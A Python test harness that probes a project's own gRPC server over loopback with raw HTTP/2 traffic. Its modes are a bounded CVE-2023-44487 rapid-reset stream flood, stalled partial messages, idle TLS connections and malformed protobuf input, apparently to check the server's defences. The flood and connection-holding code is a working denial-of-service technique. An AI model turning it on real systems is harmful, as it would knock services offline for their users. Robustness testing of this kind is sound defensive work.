#!/usr/bin/env python3
"""Raw HTTP/2 over TLS against temoin-server, bypassing gRPC and temoin (issues 14, 16).

Modes (loopback only; every loop is bounded in count and time and stops by itself):
  rapid-reset   open streams and reset them at once, as fast as possible, on C
                connections for S seconds (the CVE-2023-44487 pattern)
  half-message  open one stream with a session token, send half a gRPC message, stall;
                print the grpc-status the server ends it with
  idle-tls      open N connections, complete TLS, send nothing, hold S seconds; print
                how many the server closed
  garbage       one stream with a session token whose message does not parse; print the
                grpc-status it ends with

Prints one JSON object on stdout. Uses Debian's python3-h2.
"""
import argparse
import json
import select
import socket
import ssl
import time

import h2.config
import h2.connection
import h2.events


def tls_socket(port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the test server's self-signed key; loopback only
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    return ctx.wrap_socket(raw, server_hostname="temoin-server")


def h2_connection(port):
    sock = tls_socket(port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def headers(path, token=None):
    h = [(":method", "POST"), (":scheme", "https"), (":path", path),
         (":authority", "temoin-server"), ("content-type", "application/grpc"),
         ("te", "trailers")]
    if token:
        h.append(("authorization", "Bearer " + token))
    return h


def drain(sock, conn):
    """Reads what the server sent without blocking; False once it closed."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return False
            try:
                conn.receive_data(data)
            except Exception:
                return False
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False
    finally:
        sock.setblocking(True)


def await_end(sock, conn, seconds):
    """Reads until the stream ends: (grpc-status, grpc-message, reset by the server)."""
    status, message, reset = None, "", False
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and status is None and not reset:
        r, _, _ = select.select([sock], [], [], 0.5)
        if not r:
            continue
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for k, v in event.headers:
                    k = k.decode() if isinstance(k, bytes) else k
                    v = v.decode() if isinstance(v, bytes) else v
                    if k == "grpc-status":
                        status = int(v)
                    if k == "grpc-message":
                        message = v
            if isinstance(event, h2.events.StreamReset):
                reset = True
        sock.sendall(conn.data_to_send())
    return status, message, reset


def rapid_reset(args):
    conns = [h2_connection(args.port) for _ in range(args.connections)]
    deadline = time.monotonic() + args.seconds
    sent = 0
    closed = 0
    while time.monotonic() < deadline and sent < args.max_streams:
        for i, (sock, conn) in enumerate(conns):
            if sock is None:
                continue
            try:
                for _ in range(50):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers(args.path, args.token))
                    conn.reset_stream(sid)
                    sent += 1
                sock.sendall(conn.data_to_send())
                if not drain(sock, conn):
                    raise OSError("closed")
            except Exception:
                closed += 1
                try:
                    sock.close()
                except Exception:
                    pass
                try:  # a closed connection is replaced: the attacker keeps going
                    conns[i] = h2_connection(args.port)
                except Exception:
                    conns[i] = (None, None)
    for sock, _ in conns:
        if sock is not None:
            sock.close()
    print(json.dumps({"streams_reset": sent, "connections_closed_by_server": closed}))


def half_message(args):
    sock, conn = h2_connection(args.port)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers(args.path, args.token))
    # A gRPC frame announcing 1000 bytes, of which 10 are sent.
    conn.send_data(sid, b"\x00" + (1000).to_bytes(4, "big") + b"\x0a" * 10)
    sock.sendall(conn.data_to_send())
    status, _, reset = await_end(sock, conn, args.seconds)
    sock.close()
    print(json.dumps({"grpc_status": status, "reset": reset}))


def closed_by_peer(sock):
    """Reads what is pending (the server's HTTP/2 settings): True at end of stream."""
    sock.settimeout(0.2)
    try:
        while True:
            if not sock.recv(65536):
                return True
    except socket.timeout:
        return False
    except OSError:
        return True


def garbage(args):
    """One stream with a session token whose message is bytes that are no protobuf."""
    sock, conn = h2_connection(args.port)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers(args.path, args.token))
    junk = b"\xff\xff\xff\xff\x0f" * 8  # a varint that never ends
    conn.send_data(sid, b"\x00" + len(junk).to_bytes(4, "big") + junk, end_stream=True)
    sock.sendall(conn.data_to_send())
    status, message, _ = await_end(sock, conn, args.seconds)
    sock.close()
    print(json.dumps({"grpc_status": status, "grpc_message": message}))


def idle_tls(args):
    socks = []
    for _ in range(args.connections):
        socks.append(tls_socket(args.port))
    time.sleep(args.seconds)
    closed = 0
    for s in socks:
        closed += closed_by_peer(s)
        s.close()
    print(json.dumps({"opened": len(socks), "closed_by_server": closed}))


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("mode", choices=["rapid-reset", "half-message", "idle-tls", "garbage"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--max-streams", type=int, default=10_000_000)
    p.add_argument("--path", default="/temoin.v1.Sync/Upload")
    p.add_argument("--token", default=None)
    args = p.parse_args()
    {"rapid-reset": rapid_reset, "half-message": half_message, "idle-tls": idle_tls,
     "garbage": garbage}[args.mode](args)


if __name__ == "__main__":
    main()
